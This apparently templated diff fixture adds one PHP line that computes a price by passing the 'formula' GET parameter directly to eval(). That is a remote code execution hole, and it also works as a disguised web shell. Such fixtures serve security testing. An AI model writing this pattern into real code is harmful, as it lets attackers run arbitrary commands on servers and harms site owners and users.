@@ -1,0 +1,2 @@
+<?php
+$price = eval('return ' . $_GET['formula'] . ';'); // {{mark}}
